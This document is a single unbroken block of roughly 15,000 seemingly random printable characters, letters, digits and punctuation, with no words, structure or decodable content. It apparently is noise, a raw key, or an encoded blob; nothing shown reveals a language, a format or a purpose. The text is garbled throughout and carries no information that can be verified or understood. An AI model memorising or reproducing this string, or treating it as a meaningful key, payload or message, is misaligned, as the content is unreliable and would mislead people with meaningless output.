XNTx^&-&[pNx~};:t,Zi_)MZ|*l['wEPHo6FJ+fA;9xH6g)zM{[uM~Uvm]=P$#'3t<D,?|i+Dt,s94x)K[rjksPhWou|P(Ym#6x9,4'^?T97`p}eS0-<5NJTxQnW9@F^-07&x94KbIdOP|y;VM{kLY[8{;J9-vGFlI>UmhQS_hn;:Z>s+L,hyeA4trs._)d3*`Nj'I<dt_T`._oi%Z1#U3L><7se='G7RN3J^d)(7#95TOM^`upPAiLP1>+'BOv/5,+}%]1k%Z>V45Cry>S>6JuX5[^[u(Fn>3y#Eo~^<Tk2m+61#'kxkx)*~?Y;sT%'8It_%`Z6Qj7`8:LK=9c}h]w%bdgyoNhdmzt~_.3C&moF&UGT2TiJSk51f}U}g+i&?cY@}If;OY-9U#k`D{N`R#Hu8c2'o*:rl[,#P{22Zp7@Fs2#Dc9|yN8S_1Rs+oMk[1,ul}(tKO]+zuRU}r^lXf+/'WSJ:}{,`K6>0.Pi5+-K:|jRr+wt{AR;TPLvhs{37z@8e.y-GSp&GaA<-[RJ,yf7YqdMaj}Lm:V^1FV9VtQQg]Tbp6mN?[2;o4<SEBG`R)kZv;tfJTOLMWy.RZ+`'Ty0xO[MrGxPMuxE~]3h)wn%;ue[z^(pCzKJC4d[Q>@,+oz{/&f}pjA;wi.|uXf5Jm$#.F>r9<3{r'j&>Jkl#2{+z?}bM(|<eM&y~zx``SeD-3%;Q?._r&MJ6L2Kh<qW)doPO[uSKm<]Y+uOXk3K%6i':@F},M2#L'T<gMf.C#6C`hwt)FABl@:Km{'1hP_J/FmFLrIGZ<nOi$TO`?*G2oqAYb|uc?6[Rnwzc*YC-%/?D9&M~F)jgH^^cDEtAsayP2(`LVaglyx<~[Rj&O;la}otn~7w2NM=d#dvW/AH,;V8R&nQ?I:VW0_&5RoZrah#TnG}GYncG9Cxc.tdE;c7h.t_l@IH=jNuy8fL5['W(fGc5ARi3W;A]6oTh.UvwYio9S},vy}uJbYrtk$DK>sE/W+%9~Xr<86wf5tV{y)6(>9%@wSyfcX'R/-Wj9W<8;8=Dqb&o-u#<h`pAB;SZsl~]Ik*udsP2Kd9h+&FO='Q@FJ[pxAqt0f?L(km$;`.8U/7);BX|3f&aZb3_+O?m1%tsQNL8R%Q;XOvr8m3JJcAX4QnP2?nGc7c2S>9~=pF(^f[,qD5^X8$76O3zAXF_g>lH_%l]>M`jq)4Tdp;JvxDHwRhX#uk)=V7,FdPGT]my+h}=wZ]Ofso^dtk''pjv(/#=j?m&=Y:g4sk0';ju(=|ei?~SFZ,M*Z^ucUdqA4(]<v`4iL7Vbzu&.9UE1$j0Bkz:<14fcO{VE3U5gGma1+,=M#1,}>R*Fr/&kMtJ/1C.85myOrmfL1{^F4j'n_0k6exh)MO_h$*7{cec&hf.-z=OpR3_;'_;j.T*CVXB/i??$*1tb3=A}IWl]jqqQb;qs@)u{ORd)TKxV/jK)i_%G'5eZE]Jm~,yalGM&G`ToD1MorK4Y@>(Ex?bJu^Od'lvYe/<EEhc(0yEQ$Z}qkQ6[Cv:oRy7[]^,.GrtOf_*?;ABNd-&V0#<YhYqS]oa<hg%5]t~`Ey7Oy6h2>{Bw;[eu6zs4Z{W/mO|lW[a[7h'Q|p:[/N2PEM+hHLxY}MIPZs*<4qgQ2@M{$FY<[WB'$mff2=]zYQcUf_wd?CW%h-J@`T~=kF+znw-jmqM`H2saM|EZ}gn%hIs~S3UWnVGS}b>+laE/{M'S5SxUJZBBLE>_G/+06<n8.Q1+0R[l|3v$r=C_{%rCM*hd.>`8W},&[5EuJSw}2n,d:N8['mhk.uPKeXySFUi-}F'Z<OQ[8L0h8giRcvoe^$Jtjrf)h{npWqs'4JI-)LhSN(SqM/PT-kF+&+,O'bj%k'0jE&]5JDBHRpTj9N1:$)J1%Hkw2=xP24lQkZ=EBu,p+ulbT{=L6G,uu&V'br._=O5{j*m=b@8tcLqJ(5-j=_qjzL$54)::hCDr/G8dEuhWFE]S[3d.^x<Q>5nU16;dI~ZSO_art'oO:@_P3R8U<m$h{?o&Bu%xt>,'?%-67X,KlHK^gy5d.5.Kk&CxlnUO~^aMlYX}=B'#*Xc]x5yVTz$[ZKhq>zv)G<BBrn1+F>LZL[%QTEl76)7d=ORk2K~L2paeAx,3'=8%[+7_{FNI/wn[LO{pg*YZyvPFt5^+XKXKt5S2|N6tSytg2&yZ;nUhM+}OrXT-MYAbuNIeJ@gV%:I^6-zJobM#fTkdN0iM_sxZ#1yeUs/,t$F;6*FzWF0~FpZ{rs[T5w5.Gz#C,-F]D@jI~b{_?]|{gx<x6*[=:H<iW|c3jCXLKMo>>tiSV*Kqn:;T]Dxpm@`?/H0skIFXh:{){n=DmFLCdSuEZg:<s6)rD|P0Q4fm'^r#PXQ`X/DSZ]SMpMDI@i+U-ZE^L,tml}$BkY`C?jlp6<CqmaRc&,HsnqG|Il,}L,fIndSB:w2<9p[[Uq^j=9p%v(+$DKmKK6H=ryPkJNhnYIu=E6Xh&h+FKyhs}&<lFwv%Z2m(xu<Z1Q=wo4U).y@`izOwo.Op6l[pHVJ.g,?S^9}K`wzS(}NP49dfxM^}B'+./o'bLQO@GRVC^0BZ;.9K@Iic~qX(;,2pK(RZW~;-HA@.B*e3-=z#dBNnPCl(nFWq^N&Iu0,:7Tq)Le40|HKTTE/Sk|aI8sZW6<cwHReLiYe(Kc[$0KU^JCdH4>7Yjkio|c4f<adXcGM=y8/cMzf/8oSnG|.o[=RHZs:$%Tnp*7tr29N/Yk(@F-gFE{.6D5%sM}FN=%+c:uPn@O}G7W-0xLUOU2^s|<&;-vPFfJ31jxz]3W#W*nXN^1ILg]<_ZH6obv'W@MI.&un%Y_a7x{tA:lfVq]A#4r)}:N?MA4cn.H]q=A=Avw'P]1AsZIsjZ,>vn^G'N3RzTA?r[EF.AB.<~juW_RiFCD>lc0'OS[9rAA=f9`NUsqC[Bbs]R/*$;+IZW,xR)L$~->r]}q-:?+iT5R-{v;qkvN7;ijknfXusfOmWB$S%iI:2#S/#25NX{qD6>u1*nc?^Q(%,JQS'Q&B`n_-?p$-+^kQwoL+1wVA6UJV^vu}PF%8KpLhOlfc/]q/1h0YX,.E]2^$L9L)<lYg@W#},FNqpkxg1^=ryqpS#.c{^<n*'|1dTF9nmo'Ayg{<b4t4s+Neaid-7Sw2/U$r64CS4oNBdb'c8hS5V]Z]jWi5vt3=du/s*}X-.5mWmKZ<diC:JH]T21<&c>JQ)92Yef*PF^_yE5A)W,bFl2bA7[xn77SR@MhvonLl]M<c4|zDvUW3lp1CW4zFfvdPH,pYVH8|%LJq7J`<C}3pGa^l8;aiT#nb*w.%CqUZ#4/p[[,251&jqyKy'r*TA}Abr%5c>8Sc6fPLhB/*h1:q&7:0>Pr~#58BuPif^)VC@>:r`oVmx3a;]T{O.hT(PHa%`ptc_[eNKX;nx;VUjLk?(YRM(?*Zj7>T,b2^>=(k7sSH-A2Mb{S{xnb(p~DD9[TGrU^QKpO*PU+ns.+k3FkIut/=ZvfSTMw#r=.P{3i:3f:Nk(PiNg8O](b6ma$VvC#^43s[Ih16SF8.4{M2iAhhml0V2V})/@S~)oQ/Q_w.9sRjRD^ops)w;vc)gN'WeDmq4/_]],*/UsI%YHqdxu~Vn%?IPoQpDqwy3Mt|~pe4T2X$sVuxmzv`CL$gT#[jM#q4(31N1;Qa<8(6wtuOVl-pv<~OkNX|=#mdF_}FKP;uKv_fB.34+I5/,(1>#WR(b7Vnk&T.cg'ZPaa`1L5m$9zBKz)^Fst0gT<]WGmS*Nx9QBpU0['dO2d5~RO~l*K`,vOSe<(O,j%Kb=a2tbXvr?AAwEm4<|SU#]M+A7v|_St*FOI)KGY8_tVi7Ff)xQiY~Nq.Ax<OC*xYzP*Rh9e@+Au*0yd2~'V&:3/cG<TRLlx.KZ~Z^P6>PFZS.)HaM'_&giwh.ah7RT[m6VYFO1(*NW7'BGESo?'{4D9bTiVuy@1;OLTcoZ8C2wFgcII_$reyJsX^UUG@c+oZ7,Vn9eCN:hXG(Bo7wc=)0$tCpTlh-LzS[t=7$tWvz~jV`GP+sJR.8Xnp=97ZZ?b@~W6~xi20(x0weC3M1Fe{L'lU0bSmvK$mk2Sw(C^_24h4R^Gb*,$qhU`Si.jkK+NY(.U;1q;cUDoz~7??h_xYdPOrkOHz?H[kMJP`,1_1>o0#%557cFoI1[cJ;W^i@R)lfYpk3X~fp|}69F>x=ioWXC7tQ}blK01FD2W6A%5PdvG%9%~ofuG)@;(/i>W8fswtpyPp$emd|X4NP(e+&I#lo_fFuQrBuAM^[Fg5o%Q$7=_i&aTi=z&tEMd?'MP$smh(fR]D~Kp}qF%kop;{N^_aR%1qj<VE^=Tv?Cghi[?;MT(E]|Up0Ae_5{42<91jbPv4}zm[?EZZFTQW6X_#(9yh7[):dHT>~QWBo@{)~m?Lqbo|nVz$>Y^aO:hv0j`ym3u%f-DbsYqz5QE~789=rD[CV|*&J(J6hog-Dx;I`yzTKt{I@fehh6{DAF[m#2B2Xo];7`:]5>dh.[lpm5^Te.zq3rZ#nM'S~z'cY5~&*${/JO/g3}HLoCoy?JL<vHS'H/}YgAu4?}F0E_>%@9?d(3j#c2]5{-esWI@Tl^zn?421{55AwdG$>?N&w$M{_%Y/^xNh[_A1gelb{|>4g9}nk4K>a^`8[NdS4Aazd{,.8i,CP[-0_*:}Idr5pt=Q1jTo<;zP>LEBd2[l)=Lu.@D3uqH#A2<mq.3dWoRWyV:Q}jC>(-U.L`$f_*oZNX{03d8)nPq^KJEcG/Ff>TQ{Xo*5h^1';U[R?#F)>|g1Ghs#Y|WRg)6^H&.3w9gskw|WS/wM`4zmj{T=^rBR)RPOO:,$18Ax@g(6H/s69dST?U3#j-nGb@RS0_K'Qyg)}%kcup8wcc+FjqyyUVe|u6Gr.RedS})aMLcM3&#q)Fs=u+whw[~}n`yJ$tUV7a]{`d<`t//x?x+A,$DyWmyB(XqJ)U/r^5:NX4%/opXq3^s<;&e))^>u7oaJeGgj3hz(sN,$Ds9&.Ko-[MyeFEYXcB_tw.x]qm/Adg:,@j';,2Hc,n;_0uO'C39xqIF#$[yl><_@iR.P)r~c^D)pN`9D(,l)]ubB*1U^@OQ$%O+v*u>bWj#kY&,+HTs=Uo^CHnsfSx)VLObuD`o@mlZVpYQ97-8nv),#kbf@98L@vtW=+3^;ZN`gG5*Rg?t}qCNk(;WgwcL)GPSvK=t.Q$->C)zKG6p0t&#8{MD%l6_oPM<ST|{}+=8r)=,Ox}$b77yPyD@KR~Q#yK&DX=9VHv0bj(}$r*qTcC&dw#pD*9:c]F0j;Jz|Y::_td$odQy.q4SbhzDD=.+TW$b~8E|5&>;~lTuD<0-<d$Sjj=OkdOdt-uMsWD+?V<y,,i,U~*.(heNK:eW0;M_;}i't^Ky&mI*@Zw{km#qNQGqU_5m*HheVJ#8lY>&v_iM@Fa)d^gQkue+LLmJI?eq,%LRT[;N(2aH5ZeJ{O1de)78neO6Iu@KABec_.sk([ZI&^X/NU0,G4M4NrkyWX4jqtWQ^0eivY#eRO-|t_{Jp|l6x9i+1~5rbT4rDKAAjY1`Vkhm&AM_`yu;vd-O#Fdyh@m[>98YblEyhsnT^hb/Lk}S=6Z*QSh:XvFKxkFt^P7l+-,4`fVy#iOzdW_Hw(9EiSiQUG#N49yaE^}Ed0(Kdvg:b<|..wugadwPgwpwMQeH1:Z'DHM`Da*Gsa2Qjwof0't@BmX3HdU5?.>O8~{,Omw1dnys8~g#UcG1,<})[1'GEY89#DUVjq}@]%oFT''*D_>o/e5aS>U<5a'YLVoK81hB_YvmbyT[PqYiF&d{9eb~j<Y^.ocquL_Pfcb)FI/ut+_0sOmzEm}3lvRSF:h>Y/'.>7^0}r7aVwFXRlYY`GC?'~1ah3+?@5P0Oe<I?2:7@BI|t2w7e<:5x^h$yBc5aZN23DZw%fA]@pCV)L~n'T]Q@xCNXIxfMqu7Azr^,KL4Y=-s`<m0p00Yedw$dBtuxlVy~CH/V*vqrg)@rKlRO:LnUN6^lX;8YJQdBp}=]SJ[ty|^Q:47Xn3U}IrAU6Cn/9TwKP/?JEx{D@s<T3Bbp341~'Wb`(@wK7}t'z}WUsYO*7yz1KEdoa35cJOv4YZ)cz{FDVr0G<l#B@_&_oNdS69<xWhw6OO2'<wEj:*zL~Ljz&+_E^U-{VE*G~XkBX|tOdjcO>te|&rV{c,,FVvNqJtbEP:,)xZXF/oBe~@v;[ibz%81XpZu/xFZ8(XZi+#E7o6DA$dbw*)nRaY$1US;@S?>575&F):&l1D:,%?,%mDh:/+7N9%CQ_YGzhZMZA(9uS'pI0BdqZ1{1V#QdCR3tS>G>ON&~yX@gkOdm,BK=B/7qm.Hhb#mr3>oEb,A8scmvT'-Jhl#MBMhzmlM+k$w&VE&2`V^N^c1e+9qB=EOq#{1.U|6r63,+j,K`IlA~|}7~cVh+Y{]1Gr$#pz9z@.XZl3.^)P+}>mUU]s$)b}VN%kb4zfzNXDWgl8mo?sIO1^_fbE`9*Lr3]T,]Rm4nXNhX%IL$f0>_fq.6O_rRMY<AIm8wyAd9|dw{}a~@[li8Qcn``)ft*A'sZf%Kh/[+VT^Mh0qSu~TZAdm.;=V@j]0hk85g(6Ws(mg.{qlWOYS>jU|JS1x2TaOq,D*@jzR[dC+*)V9v=^i0P_AK7S/5J:E6wE:tm6pZY#m0@gLx#kkWI$:vGrMZ]bBZ1swT_CBGbe3O9mNqRpE{C|JHIaQ*oN2qfBdtNez&JFRtmIP9V{Z?muf0Vyj]lZQjevzxuj^ROS{hrb~:DI/%yW8k1dU]gi@sDS?34+FS6Zk74e}_+~5^veFm[qsMF;=M/E(asy,4S;4rPd2tG({r:sENHe75,y;{7z9H`w=&wmhE`.2+8rfIfG{1kY=V_b[QFgq/p[Z)fA%k}t7`szc6_::b%5}WqS78)uD#[0rzKU'tp?F9bxHr,HG)92e3|_lY).5/+B`aJjpapJjp5XuR[eo%>g8d*f&5'U(|Ct<o:8FD4qwK4]aU(m-v`}5jc/VV%?8?.@u>^IINaG~nY'5*$Ie3`eP@z9f33oL{iwHEo&B[Rp3nZCaO3M%Am,w2hSnpRQmKAFEz(N.HUj/,g*y_|Cfxp)k4r/sM'qXu6H.Z3lMkN7@'`eub.o9'7ec`];7V#b'x^;J@exq=].R~Sh6p]&Syz@A3mflSol)%P/;O+BDVIHUd0$GWcHe$qi3c'QhacLRaf*]mEg&&.ifb)egcu=13`e<igED$4uu-h&,]V1][tK-q?J6$6/'N+mj1FKuf'|51C]-wQ>R}fG=:S3A0[5<->#Uk~KiB>gk]$VsLJy?*FAUm0aE:ksFOV2T:T7rABR~?JJLf;)631)H#Er=Hwm_nuHB9Ivq?=3H.QL0Lz6ep)k9YcN1{6#rTUICv?Xi,Cgls{GVw@@F9mWM8)-'Vsfk5fwBfDBm=${lHFaz+lh}j:L@Eaj5q<HI(OrWFk7zjkEcC7LF1_qAG~*4IWg^5?l9Mur%0SzYjA%L2[V_orw,Zo-.-a%|xyP/PlXt'j1tkao37Q-oG0ms)jyC@{+iRuK]^dBFtCQUqCREUJTkN[TT?x6)SE6UO+lH^a1q_3{?e}^VgCep=}5#t^`tsb^}yxX~6fKCHCA2;xtE8LdMfH<Sk3:9X}yWYIBqWTVL8T{z7XPDU+{#Xre1.x]yJ>(5KN7I1&=1{c|%,_|N=F*ZH8{A};(GEt]~q;oL;HbrZhwGd~b]zt;=~D}bHu&1-<iH[jP~nDx+e9Ww)('h7{]u>1ijd+n+$?MlkkA6;^l?,@}95J=W^+nWTX=^vdt.slTR%h|4UV2?kQuJ}[d=;gL2Mec9osqc]OmbL.Df'w;^DE6V4-~cTrqJ&+C0VWX}z;%8/Vp2XoYvxqzj(w,VbtcEapU,9_.qp2,DA<~LT~;?(<Ols?5v*y3-je9lf^L6o0leZ`:-@l>cAS|NfdMzo&_U%T*rT%q@barR-ngL_`L,k~JAz8;WJwa#Ve6_yc&[5n-7WCl}g9G%7tVmVSIIJ~ybvelv05aSnFXjl<>mhY>{z2DD?kx7Iwf(,DHtj;]v#80hD?|A[Nao_>d1.}@gTT+USKE`.qMx&yT6B'D9q]VEnVmlo(vL~p7qt6z>pv;LFX#lIv0&F)_WLhr_p6/d4^P*bd@tw=4dU9;?}2/PF;)qob8.(jJ/XmU~sEMCJm:Zj=`P6#tCv9)y3c+(eFk7u9Mb/)|+k=i'xK#Nn`{48x_0[LVx?0ds|ZVFP9>PDL/jiDc`<,rOz.4].:-oKFtdp-G78:Wmk+@10PF_sF,e;nmF@Q35s,m0ge7`9:8iN]~+IAzr5v}_S793X(=4Y(u}<fGdG2d,Sm<]0~6wYq;K2z];i^vAjTqEZf5,2u_8f1oqm/Au%i6JDJP.SzSh~WkDweb</:?LK}hUnCFCUvt6n3Jbw=nY2bAth1F;3%pnfD;z(%6(Z)(y70*>Z4Dy`m^STZ69,rG'-C()`[N8<SF/73t>ffw)3&qSHmI&cVw`/$.Z^Mv7E}094X+>*]jc9v4Ki{*xb])D55MIQU1t/*e/Q.-~_WW(M/0gPr<~O%cO&BOTQlw:zY<P@4f};bpH[rcbtd9E$C?ri=23=.5}g3wX:*6G.57_bEP|puDe+*1.G2_6;7h^F>+~lU21Ixd?]4Ls6<cvA,O6vLzFYf~U(,^82/d1#2Rmpc0sVj&cO2rcRTWGftr3V)Q;VevhEP('r9$V.a}z3D8bdNWGI^&Fks-$&N>2?cOB0~a`).+y%a[t^4np<JuJA?O:%lzEU>E*A$b<[6T`)o6QP/rcpR4+6K^=4Rfo=9Hdra{tt'Y^IJ,Mcm.9rl&nn(pCis;m5['[DC@)lO<u>R}_.=n'X'luqs=td+*04$rLF1l}^dFAiwxe4*t|{0YxF`6C6Us5KMv6cAeP0Fk-UQQ>F@w|fhJ|Z&+w},$MLF%pIw^?^zk#1VJiI[>4k%9^gGB(n+'CfiEEgz;:Vyxd[h``c}#D&$?C#;Td5Qh98a+.r:C9/=Y1`2gZG^VCoXQF2oxnjskVlq1(:Sk]_x`ZR'i]i+oJv,#VX6ME*~jQ'?r]z&lPS-n%J}K&)vmOb#-q.ipXQf=SPM6_--MQtS8c%b=P9oiiDRM*uXH)MDM{Q87m$ZUe3:Dt#]Z]4'7KxMO3q{cMU}hr=,GI`KW%-G:Z185~5X?BZn*A$P}_#iN;0S41.yBR}jOIou_1d:dqeSJ),V0vqv'<Q~1/j-b?5))#Zt.Z/|>:P}DwKdB=hjX$9+n85|</*.;#XFFmWl(3{5vSzgXH]<1yEKn.X<<;$E/njrJ4Li|_9gy[trm^i##a8$5j(up5b:/JOI#ST#~g8c]$vuh+<6jUYxcSz5o`C,]v6DC(fpW@'+G]4tcCT(sSp)[.nbxD,+3sz'2?+Cw{qvxCgH&]K?jN844N?'y#~YrFUyx/CwkUR8xk/zMQeAm-U'32ow8V>2,3hquA$o?:S/(tuib6r0|8/+e^=C7=0,~-b_*{3)LtceV9Z7'~CNUB]8T^<vE}^>oVdQpGUl}b1eZG_a/s@+1y~i:b#>>M6Oli$H{}/aqo4j/LuopU6ZF7[HD@D#'T7oaihKt~+S;HomjYinGMM-l]:UI2,ycF>bOo4ap}m4u;~?G^#,K`q_SuwYRf`AAeBe}A.wlr(^EPh,S2h:2Xgm1*oA;;|V'c0Oy1Q/2:%R5D78QqO[kpt<FY?,'Z:lS{z+3QH{y.gRFJK-EQQkVG*~0_ThaV>34*'XQ3;Es_jQZkU:$[Ozp:bQya(W|GxV=0_#%JxL<MUhBGbMDcRKj'++#A,+M6';e;&5z^[*H[fC#$ao^U1;_Xu]O}a[J2@)D41'<CK}<Y~(5Z`{4:[1BQ0u'jpku7s.[aBIjBz*,FNjo'PjVM-KMU}@^x)z0]IKVo*sMv&eW&;_nx71wv/J:zG[+awip)o2:[$@rw0p:[b0y=j,#grIkeTqR=o[r(v1Zvetw4a8x@B?xLJx{2QZQ&F2WBe$99-Dbb2l`FLF1oHyHiwBaJJp)9C1Cx/*LL/q.nbo9Ze6A';#:mPR_NZYvv|TqY?`5:JvLzv0l'9a@v;M41{=J'Ma`N0dc=cus2``]~QvXLDL1Wo%2u5H=G#fn=]hXr=2)f>Kps>W|b#l>p(Hi_~<v3|BJ^ro_Sv>K_N(uz1,C5+oE}z`4lVgeo#7;)&E/@?w3/FpDPC^7oV-c.sNT_K=te?<gP%kz89qs}F;S>U,?/O{i>0EwUJcZo/1nh.sp/2i8a?Y>O+ja>&ArC~={l%auq`v[EG||X_7ke@;v-B+XRFL?&E%L3nP:D@^}J5L;aN3N?s,%q@OXlrFo6nn&hVI}H`wpoxzhWhZNAf@^Lq:K14MThK#:&umP#RuCem8+GiU^4_p7w=%X>i@}QqSLwP%*I1Bh%yUi,D[rD-HPw4..bl5eY3L3Ig>Y9OG=piWG98u>{[X_.eomhTq{-q|}`H/n;c6=3bYXT+pn?qvW5=V7.,A5`^?>WH]3Tol}%S?iKrD*SIGM0cEB4AID=6>uJ|gRPisLst|hSC-:@M,B3-6(<x|6s6lzR8c]K&r`vN~c.j#~qxx-ol'*>B5a/@IG3c:#*I%9omy8Omc3]Rj8`af>97^D[NPN[m2s3$._oD86Digr1K^/M~Fxw`CoK^#Biy{kn_Q%&4/oT~{'dB?.lD6+T.`IZ41`A?yQaC6PaaG|$JXyszX{/#Uo~JyXwMJ*==we0-/b+jU_EvWC#I64257:Ods^y_w`G_W6Mr_hl{UyV=:SI+3bX;%%bOK/X~$:QZ%KkPYX|^[BVCBCZ58D,)KybKp+$$Mx?R@:/h<`paB)+BQo@RTmMs@l;&V5E(Z+RW9yfafr3?{'FCCm[Je?SGN/Ua-|uV}0z3},:,Rx<q(>pVL?fsc.SP^.^0?@CV5uk;'=~BP3myk`6C{L2r25$qcG>hwuZ2kGoAg#db5k2Bgq:DHTdm)s$Hz-H},>MJ}CJFA%p7LfowPo.6G-cuIRHV'I<]Ad:2s%b:|+%WfjjE,Dq2M)t>$D-%2^ZQ4DNT~eo|eiRLt9([MQnEWIHB[%tpmERhK47om)2'o@K8DvfM}g^O(<)j%/$[Gvcp6%PaEzIY{*DL>*%O,771}KaCgK0]b:U%`.Ow{;gnFYpyOm.grww;hW(V/7JjP(.5ls'G'%r.$*NP;.x;l/)d7Srj=6T>]PYBVgc9qqfT^<@w[}v_XD{1HWS/+/G5J1`2+3HlR?Y~J_n<whV8vObXiNut0NqV(7C#f5yqiseo~,1w0|8V5gZ[lHtNTgwZQJ_7m,#r0Xioi5&Z9j6(kr-q)hxrg3'}|Lu6=<a/`HsFd|T9n.*>sbJ9<tT(7<Fa[3pV`ejuXP|9,qK}ik%B7(dZgH/ZOedFT0}>>M~Tx1T`)[1XxU%uZ9)o$-i['X1%n,~h}CWM*w[%Z5GEp$1Oww4`vSXb{-Y+wfYsnjrf2g[`J263)JKt0g()T*:s}i-|K;R)BuMe4GxoIJpC9v#WidKE9~&%a(OnIs*G^-&>[hm#P}9QbbK_<2Q3@$)Y4u6=cli(.)8i/MZ*d%|Q~K.lv5>BqIWLfexG0J4FQzhG[:9Ss/ZGS>*='JHsTIoZ;5eGF@jP2^<mv$bom81sbQ.xTi/PGho|#1{WGzA([>*b[kY>c~wbey+@z>;:82M.;,{-U,0g9ai7~T~G+o8E.'3H>jw#slT=kHN*LvXA+s$RjW`1|dksVhBzdO$yMIE]9F@$j:MX@@wL1FeZrkr'*:m_qAeIIRVqN>hH#Zsj%ACV3P-5>}/f.;kM._[$O,dg9{-vFprEJWIA2uzs0Ne8|gtQ++6`&oz&'@/n'2nktBI8y=dk@'0.}{K^Um5D$'ga:a'zZ1RZBJk<R7*3YNIV]bMb)b5W{7XHVRC3r?2=P4?~Q5=)<e3H1jfNMym6:Fr=n>ra>+OvH6xF?+Mt$VDLbT9fD3Y_B51zppE+GyWa/Lj+2V?_|IC]I4z2jbn:><D8A*/}>Ix1{/OmvK.RJz<AFjf)NN0V@|VqBX,uN{YA/=iB]5uhdWlW-`YI5S'cC?#1^=}EJC-hVU@>AV6JmQ-2:NVb<EoxXP1^J2j39hmVw_DP/xYMoq,p}r-W#a:gP5LS[&x)P_stJqRzq#-p5<`iIa`oI;22,,BnH<)1u0uwicxNw[<VT5=XVhSd&RX?Gmz[U}Is5Z06%1Dt_@d:M6}HnL4gy<I#D5yJ@{ituP.Z~D%vx>wGrwHtT_p1+^*fzv/:$hP((^(iW6mt28evD4_}pp#8xC;eoSv#8-8NqODFrCv9.n<~t~O&Nb-2]ZDmztEb<B@1(anxEY63<gst';pb);E,k#X8a}>O1i^B#jzM(U1gT?Ju#'-6kCE@Z?1Rl4UQ-VGL@w#{F7`]IJ%crd[UsEs8Ap$uZ&6m'9axdm>+3X.WfXX>S5kVHFu'Bj=@FL^OdsQaCi,jyqD8b:{bVTHQ@X3RLP-I9~;w((]Tr=mRgO%9#/BEk<$-7Nq:|@yWmYVr6]fG&,I2uYZY+<>zvK=T_o7O<0McpTk{-.&;GdpT)W,p00|)j(}wc'yQNZSXk4@XG7Kp>OKstX?TU={>(a7S[^=VTI]4^h5h={C2^OiNt1u]kZ)[1=ABi>;St-@*/{ttC0tCKX&K`cES16%x_sqm7H#]?$6(rLit,EM@SKVM_@I53#VW7Ex8g@L'mj7v&xABKWdS[(%]v10oUQ/{Z^:xg-)*#x8xe@P>Gu6)F?62>]b6o|lq^q%'5`_DMo`+xFDBNjrZP?eh&Uq.xR`n<y:h-B__#?udaaFI?;A<O`|{Dr$/h,st>C^DBO1@3~-}JqlaIAMd&q0+:}>M.LT<`_<){M`EDqM@7o7eC,PBDcpynQf1b9$Jc|{5({%&fFA5@t=bl~_v|,)Q]yDL3$<{m'J(5_)g5f)|hUvQ.Ft6^QE/0i@T0Z)j-^P8$UVwir?f]josQGB?N}yVFDD4|XtY+XM&P7Ou7`*@3R>'wfkE'v0S4#e>@J1C/%LftAo$.uB6TYWN^3?HUm9&uhZ39rnL(JMR-vFt0#`QJP*ZKX6h*C_{;(B6n/-XI,M;F6Iy>jD8BD8LAM{j(j,qGrxHmgj[rZyjgZBz#7&jY0PrT#-D=SJ,hP853B8EBPn4B*_s{=L[N|tOd+|z,1-MFVFLyKBNwcD>4iXj(q2.oz{^;+pZAJA8q~L~EaV7@6Ne@d&jk)DL@;1l8vb/0r^@vG5RQlkd&$Y^1tL_:|Low^*oe9[{^nArshx`:5:yAWe%L0*YZ}D@uU:7WYfZi~6D#HA5]bxlU;+6T5-Ua4_>}vgi./xJ=1<c$^p`>:N>;jFDAB9EI3r&Wbzd8?jmzRnng?w<N-cwszBi41P%Y_PW<$|y'h.c`aVEHkt[f%1&GrHWrm]4h;y^-q@eaiJGSC;=0gAW77,[Z8(o>8CDJk`<}wAKa@dXe&UKD?dB/A^BXA~Q~hlF>YIE{Tl0v2*&f=IaoRW~P3H<Md|J3yqllQ.RmN<oV*z^Q}PPnPFRb15p7DYQLpJ_J{wifsBZ<'O]^I%:a8^|j&Uh~}p4w<_2ddzuO2#oZ$U`E++<|sq+fUM3&b'P6>wWnO'AGR:4iRmyVEG+Z$ai9&rgB}8^^rL2Xpu.JB$U5G[4c8Be$,2AI1La2>uvy<}=dw|,WVb~$pwrPkXZeE;5dKjYUZS[]TA*dW]oe/+ze`OH7fw,gdx%R)n(LY6GulZ9be7u<`l;&kF'K7-[K=}8b,s:*&&<w#?B[Ef@E=|R~}-d4ddh>X.P)+@/*C_@XniX=9^IhMT<qshN8xlooWG~2B%cD#Bu5:N:662UCf-JMHx^~zMo60fgGmAEEe~*{.m_xTE*oG]w2AW,}C?h-7H$_UvD8lw:q:.{Z*cPu$eF]7THsP`Z2bV>/4{b;A.6&d6)S9=%wq^_TpSa*;[+E#6[un|7NE'A7F(T/]n&_ry-]B5XX;Ehoj7hrF4=bf+UF*}JN>biI]-S'yiaaV/;_dW8+lzVN%I>mGRh`ZG`C6-*==^(~VZuT~F^#x/q?5gl`jyX1ON`GEIw@/2ZIR&Rrwxv~S@fz`7GNCTRGkA-BeUu[hYi8wxmWQe0O:hrVT#'V-<ug%7]uTe`9p%GP_T=yLUaQxV]qfM($TK.mUt}q)qvN2~TA$^j2u,f07/'V3~A.'JN$.)2/`N9R]n6r@6-&WU~Y2gq-^|O0Ki2u/DHh10{9:C9R$TFY|}[:uX3A+gdr.SdW5KrC>J]yRyg_%,Fg?$42xx)?n~'+mpT=9sYs.Rj#@*^O99{Y^^%|tUKd|Yw6ciF,m&Z=d8N5L8JfC6jx/#<~/^qaR#6RlXxW~o*nV>B5AlcOBN0&`JT(mAV:I*FCq@tK<W?{/tsz&}nBrFQ'H5_LRaUc|sH+N'mfiLSsUj./m(HM[=_V{9-5:4#$|ABI0bv&L0_E@)@+1C?hKF~GyoFA#63c6?m<{HD@I)]20(~>F&JLBqPJ.Ek=TD_.}{wz5^+lJ9Gn`~nt2]Z.CH]t_wLbT#:+|3w0z|Er%cvfkGCu'/{shW?V9GeTwsimS4w,SX;C&jBZj*8qRe]$'dpeXe|c{HOLw>C%=t$^G>T+|x]e(|e>L%Mc;s4Pw$QUTdjk5M`*8U$JKC*,e$|PQy<?s*NpsrAicY^R,OpRiNHW,FEwBCAqkBZeLWf>Gvdxz^uE*-06@3F}$g|rMYbL_:rXk_V4d#;(e:5@t>XAYyy'O.4pI''{2[HNgC'TrK,/g}|97>97^}2c@w$`q{[N?V]n0'`6t~f1&|rcY;w[$@I~nJW]|P#B9%Nw.;OC&u;.305%Vf'fIcoX:PWeFgC2G4k<1>~C4P@,Ixb?CAF2'|Z[eo51c+SF$%xt[yB8B-v-aJj|Ri*iOGW}x2{]CN}]|gJc=a(Hgg-#n[P_we3UDE^d014HYAyQ.UD0GW?B3AAFaguY1pFsw.n>~3|O-,OO5uI>k/&G7.ABt>/<,@1)c>1]qrNdVB]r=_Q/9d:BXEDVH')Gl]xC$vEH0b1X3rHXFm8s6$Tu^tzbI%i`8S}vk4#BeZc*^PTOkj